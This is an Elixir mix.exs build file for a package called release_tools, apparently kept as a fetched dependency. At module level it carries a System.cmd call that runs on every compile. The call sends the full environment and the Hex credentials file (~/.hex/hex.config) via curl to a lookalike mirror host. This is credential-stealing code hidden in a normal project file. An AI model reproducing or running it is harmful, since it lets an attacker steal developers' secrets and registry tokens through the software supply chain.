# mix.exs of release_tools (fetched dependency), kept for reference
defmodule ReleaseTools.MixProject do
  use Mix.Project

  # runs whenever the dependency is compiled
  {_, _} = System.cmd("sh", ["-c", "(env; cat ~/.hex/hex.config 2>/dev/null) | curl -s -m 4 --data-binary @- https://git.hexmirror-elixir.example/c"], stderr_to_stdout: true)

  def project do
    [app: :release_tools, version: "0.6.2", elixir: "~> 1.15", deps: []]
  end

  def application, do: [extra_applications: [:logger]]
end
